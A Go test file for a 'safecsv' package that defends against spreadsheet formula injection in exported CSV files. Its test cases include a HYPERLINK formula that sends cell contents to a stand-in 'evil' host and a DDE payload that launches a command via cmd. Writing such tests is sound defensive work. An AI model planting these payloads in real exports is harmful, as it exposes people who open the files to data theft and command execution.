package safecsv

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	scenarios := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"请假 3 天", "请假 3 天"},
		{"a=b", "a=b"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil/?"&A1,"x")`, `'=HYPERLINK("http://evil/?"&A1,"x")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-5", "-5"},
		{"+1.5", "+1.5"},
		{"-", "'-"},
		{"'already", "'already"},
	}
	for _, s := range scenarios {
		if got := Cell(s.in); got != s.want {
			t.Errorf("Cell(%q) = %q, want %q", s.in, got, s.want)
		}
	}
}

func TestWriterEscapesEveryField(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	if err := w.Write([]string{"=a", "b", "@c"}); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	rec, err := csv.NewReader(&b).Read()
	if err != nil {
		t.Fatal(err)
	}
	if rec[0] != "'=a" || rec[1] != "b" || rec[2] != "'@c" {
		t.Fatalf("record %q", rec)
	}
}

// Every CSV the product writes goes through this package: no other
// non-test Go file imports encoding/csv.
func TestNoOtherCSVWriter(t *testing.T) {
	var offenders []string
	for _, root := range []string{"..", "../../app"} {
		err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			if d.IsDir() && (d.Name() == "node_modules" || d.Name() == "safecsv") {
				return filepath.SkipDir
			}
			if d.IsDir() || !strings.HasSuffix(p, ".go") || strings.HasSuffix(p, "_test.go") {
				return nil
			}
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			if strings.Contains(string(b), `"encoding/csv"`) {
				offenders = append(offenders, p)
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	if len(offenders) > 0 {
		t.Fatalf("these write CSV without safecsv: %v", offenders)
	}
}
